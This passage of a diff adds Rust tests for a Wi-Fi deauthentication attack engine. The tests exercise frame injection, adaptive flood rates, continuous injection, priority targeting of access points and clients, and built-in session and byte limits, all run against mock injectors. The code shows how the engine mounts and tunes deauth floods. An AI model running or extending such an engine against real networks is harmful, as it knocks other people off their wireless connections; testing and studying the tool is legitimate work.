+            if sent == 0 && !self.first_stall.is_zero() {
+                std::thread::sleep(self.first_stall);
+            }
+            
+            if sent < self.buffer_full {
+                Err(DeauthError::SendBufferFull("send: No buffer space available".to_string()))
+            } else if self.fail {
+                Err(DeauthError::InjectionError("mock failure".to_string()))
+            } else {
+                Ok(frame.len())
+            }
+        }
+    }
+    
+    #[tokio::test]
+    async fn test_set_injector_on_running_engine() {
+        async fn attack(engine: &DeauthEngine, events: &mut broadcast::Receiver<Event>, count: u32) {
+            let target = MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x01]);
+            let access_point = MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x02]);
+            engine
+                .inject_deauth(target, access_point, None, count, Duration::from_millis(1))
+                .await
+                .expect("Should submit request");
+            
+            let event = loop {
+                let event = tokio::time::timeout(Duration::from_secs(2), events.recv())
+                    .await
+                    .expect("Request should complete")
+                    .expect("Should receive event");
+                if !matches!(event, Event::RequestStarted { .. }) {
+                    break event;
+                }
+            };
+            assert!(matches!(event, Event::RequestCompleted { sent, .. } if sent == count));
+        }
+        
+        let config = EngineConfig {
+            worker_threads: 1,
+            record_injected_frames: Some(16),
+            ..EngineConfig::default()
+        };
+        let mut engine = DeauthEngine::new(config).expect("Should create engine");
+        engine.start().expect("Should start engine");
+        let mut events = engine.subscribe_events();
+        
+        // The simulated injector is used until another is installed
+        attack(&engine, &mut events, 3).await;
+        let injector = Arc::new(MockInjector::new(false));
+        engine.set_injector(Arc::clone(&injector) as Arc<dyn Injector>);
+        assert_eq!(injector.frames.load(Ordering::Relaxed), 0);
+        
+        attack(&engine, &mut events, 4).await;
+        assert_eq!(injector.frames.load(Ordering::Relaxed), 4);
+        
+        // Frames keep being recorded through the new injector
+        assert_eq!(engine.take_injected_frames().len(), 7);
+        
+        engine.shutdown().await.expect("Should shut down");
+    }
+    
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn test_time_to_first_packet() {
+        let target = AttackTarget {
+            target: MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x01]),
+            access_point: MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x02]),
+        };
+        let profile = AttackProfile {
+            targets: vec![target],
+            frames_per_target: 4,
+            interval: Duration::ZERO,
+            ..AttackProfile::default()
+        };
+        
+        for fail in [false, true] {
+            let injector = Arc::new(MockInjector::new(fail));
+            let mut engine = DeauthEngine::new(EngineConfig::default())
+                .expect("Should create engine")
+                .with_injector(Arc::clone(&injector) as Arc<dyn Injector>);
+            engine.start().expect("Should start");
+            
+            let summary = engine.run_profile(profile.clone())
+                .expect("Should run profile")
+                .wait()
+                .await
+                .expect("Should finish");
+            
+            assert_eq!(injector.frames.load(Ordering::Relaxed), 4);
+            if fail {
+                assert_eq!(summary.time_to_first_packet, None);
+            } else {
+                let warm_up = summary.time_to_first_packet.expect("Should record warm-up");
+                assert!(warm_up <= summary.duration);
+            }
+            
+            engine.shutdown().await.expect("Should shut down");
+        }
+    }
+    
+    /// Link whose send buffer holds `capacity` frames and drains at `rate` packets/second
+    struct BufferedLink {
+        rate: f64,
+        capacity: f64,
+        queued: Mutex<(f64, Instant)>,
+    }
+    
+    impl BufferedLink {
+        fn new(rate: u32, capacity: u32) -> Self {
+            Self {
+                rate: f64::from(rate),
+                capacity: f64::from(capacity),
+                queued: Mutex::new((0.0, Instant::now())),
+            }
+        }
+    }
+    
+    impl Injector for BufferedLink {
+        fn inject_frame(&self, frame: &[u8]) -> Result<usize> {
+            let mut queued = self.queued.lock();
+            let now = Instant::now();
+            let drained = now.duration_since(queued.1).as_secs_f64() * self.rate;
+            *queued = ((queued.0 - drained).max(0.0), now);
+            
+            // Sending faster than the link drains fills the buffer
+            if queued.0 + 1.0 > self.capacity {
+                return Err(DeauthError::SendBufferFull("send: No buffer space available".to_string()));
+            }
+            queued.0 += 1.0;
+            Ok(frame.len())
+        }
+    }
+    
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn test_adaptive_rate_converges() {
+        // A link that sustains 600 packets/second, below the 2000 ceiling
+        const SUSTAINABLE: u32 = 600;
+        
+        let config = EngineConfig {
+            worker_threads: 1,
+            max_rate_per_worker: 2000,
+            adaptive_rate: true,
+            ..EngineConfig::default()
+        };
+        let profile = AttackProfile {
+            targets: vec![AttackTarget {
+                target: MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x01]),
+                access_point: MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x02]),
+            }],
+            frames_per_target: 100_000,
+            interval: Duration::ZERO,
+            ..AttackProfile::default()
+        };
+        
+        let mut engine = DeauthEngine::new(config)
+            .expect("Should create engine")
+            .with_injector(Arc::new(BufferedLink::new(SUSTAINABLE, 8)));
+        engine.start().expect("Should start");
+        let handle = engine.run_profile(profile).expect("Should run profile");
+        
+        // Let the rate find the link's limit, then sample it
+        tokio::time::sleep(Duration::from_millis(500)).await;
+        let mut rates = Vec::new();
+        for _ in 0..75 {
+            rates.push(engine.worker_metrics()[0].current_rate);
+            tokio::time::sleep(Duration::from_millis(20)).await;
+        }
+        
+        handle.stop();
+        let summary = handle.wait().await.expect("Should finish");
+        engine.shutdown().await.expect("Should shut down");
+        
+        // The rate saw-tooths around the limit, averaging below it, and backed off
+        // without ever collapsing
+        let mean = rates.iter().map(|&rate| u64::from(rate)).sum::<u64>() / rates.len() as u64;
+        assert!(mean < u64::from(SUSTAINABLE), "mean rate {} ({:?})", mean, rates);
+        assert!(rates.iter().all(|&rate| rate >= SUSTAINABLE / 4), "rates {:?}", rates);
+        assert!(summary.successful_packets > 0);
+        assert!(engine.metrics_collector.send_buffer_full() > 0);
+    }
+    
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn test_send_buffer_full_backs_off() {
+        let config = EngineConfig {
+            worker_threads: 1,
+            ..EngineConfig::default()
+        };
+        let profile = AttackProfile {
+            targets: vec![AttackTarget {
+                target: MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x01]),
+                access_point: MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x02]),
+            }],
+            frames_per_target: 1,
+            interval: Duration::ZERO,
+            ..AttackProfile::default()
+        };
+        
+        // Three rejected sends, then the retry goes through
+        let injector = Arc::new(MockInjector::buffer_full(3));
+        let mut engine = DeauthEngine::new(config.clone())
+            .expect("Should create engine")
+            .with_injector(Arc::clone(&injector) as Arc<dyn Injector>);
+        engine.start().expect("Should start");
+        
+        let summary = engine.run_profile(profile.clone())
+            .expect("Should run profile")
+            .wait()
+            .await
+            .expect("Should finish");
+        let metrics = engine.metrics_collector.calculate_metrics();
+        
+        assert_eq!(injector.frames.load(Ordering::Relaxed), 4);
+        assert_eq!(summary.successful_packets, 1);
+        assert!((summary.success_rate - 1.0).abs() < f64::EPSILON);
+        assert_eq!(metrics.send_buffer_full, 3);
+        assert!(summary.duration >= Duration::from_millis(1 + 2 + 4));
+        engine.shutdown().await.expect("Should shut down");
+        
+        // A buffer that never drains gives up after the last attempt
+        let injector = Arc::new(MockInjector::buffer_full(u64::MAX));
+        let mut engine = DeauthEngine::new(config)
+            .expect("Should create engine")
+            .with_injector(Arc::clone(&injector) as Arc<dyn Injector>);
+        engine.start().expect("Should start");
+        
+        let summary = engine.run_profile(profile)
+            .expect("Should run profile")
+            .wait()
+            .await
+            .expect("Should finish");
+        let metrics = engine.metrics_collector.calculate_metrics();
+        
+        assert_eq!(injector.frames.load(Ordering::Relaxed), u64::from(SEND_BUFFER_MAX_ATTEMPTS));
+        assert_eq!(summary.successful_packets, 0);
+        assert_eq!(metrics.send_buffer_full, u64::from(SEND_BUFFER_MAX_ATTEMPTS));
+        engine.shutdown().await.expect("Should shut down");
+    }
+    
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn test_graceful_stop_finishes_in_flight_request() {
+        let config = EngineConfig {
+            worker_threads: 1,
+            ..EngineConfig::default()
+        };
+        let injector = Arc::new(MockInjector::new(false));
+        let mut engine = DeauthEngine::new(config)
+            .expect("Should create engine")
+            .with_injector(Arc::clone(&injector) as Arc<dyn Injector>);
+        engine.start().expect("Should start");
+        
+        let request = |count| InjectionRequest {
+            target: MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x01]),
+            access_point: MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x02]),
+            reason_code: 7,
+            count,
+            interval: Duration::from_millis(5),
+            reason_codes: Arc::from(Vec::new()),
+            round: 0,
+            mode: FrameMode::Deauth,
+            tracker: None,
+            priority: Priority::Normal,
+        };
+        
+        // The single worker picks up the first burst; the second waits in the queue
+        engine.request_queue.push(request(20));
+        engine.request_queue.push(request(20));
+        for _ in 0..100 {
+            if engine.stop_state.in_flight.load(Ordering::SeqCst) == 1 {
+                break;
+            }
+            tokio::time::sleep(Duration::from_millis(1)).await;
+        }
+        
+        let drained = engine
+            .stop_injection_graceful(Duration::from_secs(5))
+            .await
+            .expect("Should stop");
+        assert!(drained);
+        assert_eq!(injector.frames.load(Ordering::Relaxed), 20);
+        assert!(engine.request_queue.is_empty());
+        
+        // Requests are accepted again once the stop completes
+        let target = MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x01]);
+        assert!(engine.check_accepting().is_ok());
+        engine.stop_state.draining.store(true, Ordering::SeqCst);
+        assert!(engine.inject_deauth(target, target, None, 1, Duration::ZERO).await.is_err());
+        engine.stop_state.draining.store(false, Ordering::SeqCst);
+        
+        engine.shutdown().await.expect("Should shut down");
+    }
+    
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn test_health_after_shutdown() {
+        let config = EngineConfig {
+            worker_threads: 2,
+            ..EngineConfig::default()
+        };
+        let mut engine = DeauthEngine::new(config).expect("Should create engine");
+        
+        let idle = engine.health();
+        assert!(!idle.healthy());
+        assert_eq!(idle.workers_alive, 0);
+        assert_eq!(idle.since_last_injection, None);
+        
+        engine.start().expect("Should start");
+        
+        let health = engine.health();
+        assert!(health.healthy());
+        assert_eq!(health.workers_alive, 2);
+        assert_eq!(health.interface_present, None);
+        
+        engine.shutdown().await.expect("Should shut down");
+        for _ in 0..100 {
+            if engine.health().workers_alive == 0 {
+                break;
+            }
+            tokio::time::sleep(Duration::from_millis(10)).await;
+        }
+        
+        let health = engine.health();
+        assert!(!health.running);
+        assert_eq!(health.workers_alive, 0);
+        assert_eq!(health.workers_total, 2);
+        assert!(!health.healthy());
+    }
+    
+    #[tokio::test]
+    async fn test_channel_mismatch_event() {
+        use crate::network::interface::{InterfaceStatus, InterfaceType, PlatformInterfaceData};
+        
+        let interface = NetworkInterface {
+            name: "wlan0mon".to_string(),
+            index: 3,
+            mac_address: MacAddress::new([0x00, 0x11, 0x22, 0x33, 0x44, 0x55]),
+            interface_type: InterfaceType::WiFi,
+            status: InterfaceStatus::Up,
+            supported_channels: Vec::new(),
+            current_channel: Some(1),
+            signal_strength: None,
+            platform_data: PlatformInterfaceData::Unknown,
+        };
+        let engine = DeauthEngine::new(EngineConfig::default())
+            .expect("Should create engine")
+            .with_interface(interface);
+        let mut events = engine.subscribe_events();
+        
+        let profile = AttackProfile {
+            targets: vec![AttackTarget {
+                target: MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x01]),
+                access_point: MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x02]),
+            }],
+            frames_per_target: 1,
+            channel: Some(1),
+            ..AttackProfile::default()
+        };
+        
+        // Matching channel: no event
+        engine.run_profile(profile.clone()).expect("Should run profile").stop();
+        assert!(events.try_recv().is_err());
+        
+        let mismatched = AttackProfile {
+            channel: Some(6),
+            ..profile
+        };
+        engine.run_profile(mismatched).expect("Should run profile").stop();
+        match events.try_recv().expect("Should publish event") {
+            Event::ChannelMismatch { interface, interface_channel, target_channel } => {
+                assert_eq!(interface, "wlan0mon");
+                assert_eq!(interface_channel, 1);
+                assert_eq!(target_channel, 6);
+            }
+            other => panic!("Unexpected event: {:?}", other),
+        }
+    }
+    
+    #[tokio::test]
+    async fn test_drop_without_shutdown_stops_workers() {
+        // Workers hold a reference to the buffer pool while they run
+        let pool = Arc::new(PacketBuffer::new(8, 256));
+        let config = EngineConfig {
+            worker_threads: 2,
+            ..EngineConfig::default()
+        };
+        let mut engine = DeauthEngine::with_buffer_pool(config, Arc::clone(&pool)).expect("Should create engine");
+        engine.start().expect("Should start engine");
+        
+        // A worker is parked between frames of a long-interval request
+        engine.request_queue.push(InjectionRequest {
+            target: MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x03]),
+            access_point: MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x02]),
+            reason_code: 7,
+            count: 3,
+            interval: Duration::from_secs(30),
+            reason_codes: Arc::from([]),
+            round: 0,
+            mode: FrameMode::Deauth,
+            tracker: None,
+            priority: Priority::Normal,
+        });
+        tokio::time::sleep(Duration::from_millis(50)).await;
+        assert!(Arc::strong_count(&pool) > 1);
+        
+        let start = Instant::now();
+        drop(engine);
+        assert!(start.elapsed() < Duration::from_secs(1), "Drop waited out the request interval");
+        assert_eq!(Arc::strong_count(&pool), 1);
+    }
+    
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn test_request_completion_event() {
+        /// Injector failing every second frame
+        #[derive(Default)]
+        struct AlternatingInjector {
+            calls: AtomicU64,
+        }
+        
+        impl Injector for AlternatingInjector {
+            fn inject_frame(&self, frame: &[u8]) -> Result<usize> {
+                if self.calls.fetch_add(1, Ordering::Relaxed) % 2 == 1 {
+                    return Err(DeauthError::InjectionError("Transmit failed".to_string()));
+                }
+                Ok(frame.len())
+            }
+        }
+        
+        let config = EngineConfig {
+            worker_threads: 1,
+            ..EngineConfig::default()
+        };
+        let mut engine = DeauthEngine::new(config)
+            .expect("Should create engine")
+            .with_injector(Arc::new(AlternatingInjector::default()));
+        engine.start().expect("Should start engine");
+        let mut events = engine.subscribe_events();
+        
+        let target = MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x01]);
+        engine.request_queue.push(InjectionRequest {
+            target,
+            access_point: MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x02]),
+            reason_code: 7,
+            count: 5,
+            interval: Duration::ZERO,
+            reason_codes: Arc::from([]),
+            round: 0,
+            mode: FrameMode::Deauth,
+            tracker: None,
+            priority: Priority::Normal,
+        });
+        
+        // The first failed frame is reported on its own
+        let event = loop {
+            let event = tokio::time::timeout(Duration::from_secs(2), events.recv())
+                .await
+                .expect("Should complete the request")
+                .expect("Should receive event");
+            match event {
+                Event::RequestStarted { target: started, count } => assert_eq!((started, count), (target, 5)),
+                Event::InjectionFailed { target: failed, .. } => assert_eq!(failed, target),
+                event => break event,
+            }
+        };
+        match event {
+            Event::RequestCompleted { target: completed, sent, failed } => {
+                assert_eq!(completed, target);
+                assert_eq!((sent, failed), (3, 2));
+            }
+            other => panic!("Unexpected event {:?}", other),
+        }
+    }
+    
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn test_session_cap_stops_injection() {
+        let config = EngineConfig {
+            worker_threads: 1,
+            max_session_duration: Some(Duration::from_millis(100)),
+            ..EngineConfig::default()
+        };
+        let mut engine = DeauthEngine::new(config).expect("Should create engine");
+        engine.start().expect("Should start engine");
+        let mut events = engine.subscribe_events();
+        
+        // Far more frames than fit in the session
+        let request = InjectionRequest {
+            target: MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x01]),
+            access_point: MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x02]),
+            reason_code: 7,
+            count: 10_000,
+            interval: Duration::from_millis(1),
+            reason_codes: Arc::from([]),
+            round: 0,
+            mode: FrameMode::Deauth,
+            tracker: None,
+            priority: Priority::Normal,
+        };
+        engine.request_queue.push(request.clone());
+        engine.request_queue.push(request);
+        
+        // The cut-short burst may report its start and completion first
+        let event = loop {
+            let event = tokio::time::timeout(Duration::from_secs(2), events.recv())
+                .await
+                .expect("Session should expire")
+                .expect("Should receive event");
+            if !matches!(event, Event::RequestStarted { .. } | Event::RequestCompleted { .. }) {
+                break event;
+            }
+        };
+        match event {
+            Event::SessionExpired { elapsed } => assert!(elapsed >= Duration::from_millis(100)),
+            other => panic!("Unexpected event: {:?}", other),
+        }
+        
+        // The running burst is cut short and the queued one dropped
+        tokio::time::sleep(Duration::from_millis(50)).await;
+        let handled = engine.worker_metrics()[0].packets_handled;
+        assert!(handled > 0 && handled < 10_000);
+        tokio::time::sleep(Duration::from_millis(100)).await;
+        assert_eq!(engine.worker_metrics()[0].packets_handled, handled);
+        assert_eq!(engine.request_queue.len(), 0);
+        
+        let refused = engine
+            .inject_deauth(
+                MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x01]),
+                MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x02]),
+                None,
+                1,
+                Duration::ZERO,
+            )
+            .await;
+        assert!(matches!(refused, Err(DeauthError::InjectionError(_))));
+        
+        engine.shutdown().await.expect("Should shut down");
+    }
+    
+    #[tokio::test]
+    async fn test_batch_is_all_or_nothing() {
+        let mut engine = DeauthEngine::new(EngineConfig::default()).expect("Should create engine");
+        let access_point = MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0xAA]);
+        let request = |last: u8, reason_code: ReasonCode, count: u32| {
+            InjectionRequest::deauth(
+                MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, last]),
+                access_point,
+                reason_code,
+                count,
+                Duration::ZERO,
+            )
+        };
+        
+        // Advanced frames are not enabled, so the power-save request sinks the batch
+        let mut power_save = request(3, 7, 10);
+        power_save.mode = FrameMode::PowerSaveNull;
+        let mut from_group = request(2, 3, 0);
+        from_group.access_point = MacAddress::new([0xFF; 6]);
+        let statuses = engine
+            .inject_batch(vec![request(1, 7, 10), power_save, from_group])
+            .await
+            .expect("Should check batch");
+        assert_eq!(statuses[0], BatchStatus::Withheld);
+        assert!(matches!(statuses[1], BatchStatus::Rejected(ref reason) if reason.contains("allow_advanced_frames")));
+        assert!(matches!(statuses[2], BatchStatus::Rejected(_)));
+        let control_rx = engine.control_rx.as_mut().expect("Engine not started");
+        assert!(control_rx.try_recv().is_err());
+        
+        // A valid batch is submitted whole, after requests sent before it, each
+        // request keeping its own reason code and count
+        engine.inject_deauth(MacAddress::new([0x02; 6]), access_point, Some(1), 5, Duration::ZERO)
+            .await
+            .expect("Should submit request");
+        let statuses = engine
+            .inject_batch(vec![request(1, 7, 10), request(2, 3, 20)])
+            .await
+            .expect("Should queue batch");
+        assert_eq!(statuses, [BatchStatus::Accepted, BatchStatus::Accepted]);
+        
+        let control_rx = engine.control_rx.as_mut().expect("Engine not started");
+        assert!(matches!(control_rx.try_recv(), Ok(EngineCommand::StartInjection(ref request)) if request.count == 5));
+        let Ok(EngineCommand::StartBatch(batch)) = control_rx.try_recv() else {
+            panic!("Batch should follow the earlier request");
+        };
+        let queued: Vec<_> = batch.iter().map(|request| (request.reason_code, request.count)).collect();
+        assert_eq!(queued, [(7, 10), (3, 20)]);
+        
+        let too_many: Vec<_> = (0..=50).map(|last| request(last, 7, 1)).collect();
+        assert!(matches!(engine.inject_batch(too_many).await, Err(DeauthError::ConfigError(_))));
+    }
+    
+    #[test]
+    fn test_priority_target_dequeued_first() {
+        let starred = MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x01]);
+        let other = MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x03]);
+        let access_point = MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x02]);
+        let engine = DeauthEngine::new(EngineConfig::default()).expect("Should create engine");
+        
+        engine.set_priority_targets([starred]);
+        
+        // Submitted before the starred target's request, but not started so nothing is consumed
+        engine.request_queue.push(InjectionRequest::deauth(other, access_point, 7, 1, Duration::ZERO));
+        engine.request_queue.push(InjectionRequest::deauth(starred, access_point, 7, 1, Duration::ZERO));
+        assert_eq!(engine.request_queue.len(), 2);
+        
+        let first = engine.request_queue.pop().expect("Should dequeue");
+        assert_eq!((first.target, first.priority), (starred, Priority::High));
+        let second = engine.request_queue.pop().expect("Should dequeue");
+        assert_eq!((second.target, second.priority), (other, Priority::Normal));
+        assert!(engine.request_queue.is_empty());
+        
+        // A starred access point raises requests for all of its clients
+        let broadcast = MacAddress::new([0xFF; 6]);
+        let other_access_point = MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x04]);
+        engine.set_priority_targets([access_point]);
+        engine.request_queue.push(InjectionRequest::deauth(broadcast, other_access_point, 7, 1, Duration::ZERO));
+        engine.request_queue.push(InjectionRequest::deauth(broadcast, access_point, 7, 1, Duration::ZERO));
+        
+        let first = engine.request_queue.pop().expect("Should dequeue");
+        assert_eq!((first.access_point, first.priority), (access_point, Priority::High));
+        let second = engine.request_queue.pop().expect("Should dequeue");
+        assert_eq!((second.access_point, second.priority), (other_access_point, Priority::Normal));
+    }
+    
+    #[test]
+    fn test_attack_estimate() {
+        let engine = DeauthEngine::new(EngineConfig::default()).expect("Should create engine");
+        let target = |last: u8| AttackTarget {
+            target: MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, last]),
+            access_point: MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0xAA]),
+        };
+        
+        // Paced by the interval: 100 rounds of 100 ms
+        let profile = AttackProfile {
+            targets: vec![target(1), target(2), target(3)],
+            frames_per_target: 100,
+            interval: Duration::from_millis(100),
+            ..AttackProfile::default()
+        };
+        let estimate = engine.estimate(&profile);
+        assert_eq!(estimate.total_frames, 300);
+        assert_eq!(estimate.duration, Duration::from_secs(10));
+        assert!((estimate.aggregate_rate - 30.0).abs() < 1e-9);
+        assert!(!estimate.is_large());
+        
+        // Bounded by the engine's 4 x 1,000 pps when the interval is too short
+        let flood = AttackProfile {
+            targets: (1..=50).map(target).collect(),
+            frames_per_target: 1_000_000,
+            interval: Duration::ZERO,
+            ..AttackProfile::default()
+        };
+        let estimate = engine.estimate(&flood);
+        assert_eq!(estimate.total_frames, 50_000_000);
+        assert_eq!(estimate.duration, Duration::from_secs(12_500));
+        assert!((estimate.aggregate_rate - 4_000.0).abs() < 1e-6);
+        assert!(estimate.is_large());
+    }
+    
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn test_zero_count_injects_until_stopped() {
+        let target = MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x01]);
+        let access_point = MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x02]);
+        let config = EngineConfig {
+            worker_threads: 1,
+            ..EngineConfig::default()
+        };
+        let mut engine = DeauthEngine::new(config).expect("Should create engine");
+        engine.start().expect("Should start engine");
+        let mut events = engine.subscribe_events();
+        
+        engine
+            .inject_deauth(target, access_point, None, 0, Duration::from_millis(1))
+            .await
+            .expect("Should submit request");
+        
+        // Keeps going well past any single burst
+        let handled = || engine.worker_metrics()[0].packets_handled;
+        tokio::time::sleep(Duration::from_millis(100)).await;
+        let before = handled();
+        assert!(before > 0);
+        tokio::time::sleep(Duration::from_millis(100)).await;
+        assert!(handled() > before);
+        
+        let started = events.try_recv().expect("Should announce the request");
+        assert!(matches!(started, Event::RequestStarted { count: 0, .. }));
+        
+        engine.stop_injection().await.expect("Should stop injection");
+        let event = tokio::time::timeout(Duration::from_secs(1), events.recv())
+            .await
+            .expect("Request should stop promptly")
+            .expect("Should receive event");
+        let Event::RequestCompleted { target: completed, sent, failed } = event else {
+            panic!("Unexpected event: {:?}", event);
+        };
+        assert_eq!(completed, target);
+        assert_eq!(failed, 0);
+        
+        // Nothing more is sent once the request has completed
+        let stopped = handled();
+        assert_eq!(u64::from(sent), stopped);
+        tokio::time::sleep(Duration::from_millis(50)).await;
+        assert_eq!(handled(), stopped);
+        
+        engine.shutdown().await.expect("Should shut down");
+    }
+    
+    #[test]
+    fn test_stop_covers_request_popped_before_it() {
+        let target = MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x01]);
+        let access_point = MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x02]);
+        let queue = RequestQueue::default();
+        
+        // A worker pops a continuous request, then a stop lands before its first frame
+        queue.push(InjectionRequest::deauth(target, access_point, 7, 0, Duration::ZERO));
+        let (_, generation) = queue.pop_stamped().expect("Should dequeue");
+        queue.stop();
+        assert!(queue.is_stopped_since(generation));
+        
+        // Requests queued after the stop run normally
+        queue.push(InjectionRequest::deauth(target, access_point, 7, 0, Duration::ZERO));
+        let (_, generation) = queue.pop_stamped().expect("Should dequeue");
+        assert!(!queue.is_stopped_since(generation));
+    }
+    
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn test_commands_dispatched_in_order() {
+        use super::super::packet::RADIOTAP_HEADER;
+        
+        let target = MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x01]);
+        let access_point = MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x02]);
+        let config = EngineConfig {
+            worker_threads: 1,
+            record_injected_frames: Some(16),
+            ..EngineConfig::default()
+        };
+        let mut engine = DeauthEngine::new(config).expect("Should create engine");
+        engine.start().expect("Should start engine");
+        assert!(engine.control_rx.is_none());
+        
+        let reason_codes: Vec<ReasonCode> = (1..=8).collect();
+        for &reason_code in &reason_codes {
+            engine
+                .inject_deauth(target, access_point, Some(reason_code), 1, Duration::ZERO)
+                .await
+                .expect("Should submit request");
+        }
+        
+        // Answered only after the dispatcher has queued every earlier request
+        engine.get_metrics().await.expect("Should get metrics");
+        
+        let mut frames = Vec::new();
+        let deadline = Instant::now() + Duration::from_secs(2);
+        while frames.len() < reason_codes.len() && Instant::now() < deadline {
+            frames.extend(engine.take_injected_frames());
+            tokio::time::sleep(Duration::from_millis(10)).await;
+        }
+        
+        // A single worker sends in queue order, so frames follow submission order
+        let sent: Vec<ReasonCode> = frames
+            .iter()
+            .map(|frame| {
+                DeauthPacket::parse(&frame.data[RADIOTAP_HEADER.len()..])
+                    .expect("Should be a deauthentication")
+                    .reason_code
+            })
+            .collect();
+        assert_eq!(sent, reason_codes);
+        
+        engine.shutdown().await.expect("Should shut down");
+    }
+    
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn test_byte_budget_stops_injection() {
+        let target = MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x01]);
+        let access_point = MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x02]);
+        let frame_len = DeauthPacket::new(target, access_point, access_point, 7).to_bytes().len() as u64;
+        let config = EngineConfig {
+            worker_threads: 1,
+            max_total_bytes: Some(10 * frame_len),
+            ..EngineConfig::default()
+        };
+        let mut engine = DeauthEngine::new(config).expect("Should create engine");
+        engine.start().expect("Should start engine");
+        let mut events = engine.subscribe_events();
+        
+        let request = InjectionRequest {
+            target,
+            access_point,
+            reason_code: 7,
+            count: 1_000,
+            interval: Duration::ZERO,
+            reason_codes: Arc::from([]),
+            round: 0,
+            mode: FrameMode::Deauth,
+            tracker: None,
+            priority: Priority::Normal,
+        };
+        engine.request_queue.push(request.clone());
+        engine.request_queue.push(request);
+        
+        let event = loop {
+            let event = tokio::time::timeout(Duration::from_secs(2), events.recv())
+                .await
+                .expect("Budget should run out")
+                .expect("Should receive event");
+            if !matches!(event, Event::RequestStarted { .. } | Event::RequestCompleted { .. }) {
+                break event;
+            }
+        };
+        match event {
+            Event::ByteBudgetExhausted { bytes_transmitted } => assert_eq!(bytes_transmitted, 10 * frame_len),
+            other => panic!("Unexpected event: {:?}", other),
+        }
+        
+        // Fixed-size frames stop exactly at the budget and the queued burst is dropped
+        tokio::time::sleep(Duration::from_millis(50)).await;
+        assert_eq!(engine.worker_metrics()[0].packets_handled, 10);
+        assert_eq!(engine.request_queue.len(), 0);
+        
+        let refused = engine
+            .inject_deauth(target, access_point, None, 1, Duration::ZERO)
+            .await;
+        assert!(matches!(refused, Err(DeauthError::InjectionError(_))));
+        
+        engine.shutdown().await.expect("Should shut down");
+    }
+    
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn test_byte_budget_refuses_frame_that_does_not_fit() {
+        let target = MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x01]);
+        let access_point = MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x02]);
+        let frame_len = DeauthPacket::new(target, access_point, access_point, 7).to_bytes().len() as u64;
+        let config = EngineConfig {
+            worker_threads: 4,
+            max_total_bytes: Some(10 * frame_len + frame_len / 2),
+            ..EngineConfig::default()
+        };
+        let mut engine = DeauthEngine::new(config).expect("Should create engine");
+        engine.start().expect("Should start engine");
+        let mut events = engine.subscribe_events();
+        
+        for _ in 0..4 {
+            engine.request_queue.push(InjectionRequest {
+                target,
+                access_point,
+                reason_code: 7,
+                count: 1_000,
+                interval: Duration::ZERO,
+                reason_codes: Arc::from([]),
+                round: 0,
+                mode: FrameMode::Deauth,
+                tracker: None,
+                priority: Priority::Normal,
+            });
+        }
+        
+        let bytes_transmitted = loop {
+            let event = tokio::time::timeout(Duration::from_secs(2), events.recv())
+                .await
+                .expect("Budget should run out")
+                .expect("Should receive event");
+            if let Event::ByteBudgetExhausted { bytes_transmitted } = event {
+                break bytes_transmitted;
+            }
+        };
+        assert!(bytes_transmitted <= 10 * frame_len);
+        
+        // Racing workers never overshoot, and the eleventh frame is never sent
+        tokio::time::sleep(Duration::from_millis(50)).await;
+        let handled: u64 = engine.worker_metrics().iter().map(|worker| worker.packets_handled).sum();
+        assert_eq!(handled, 10);
+        assert_eq!(engine.metrics_collector.bytes_transmitted(), 10 * frame_len);
+        
+        engine.shutdown().await.expect("Should shut down");
+    }
+    
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
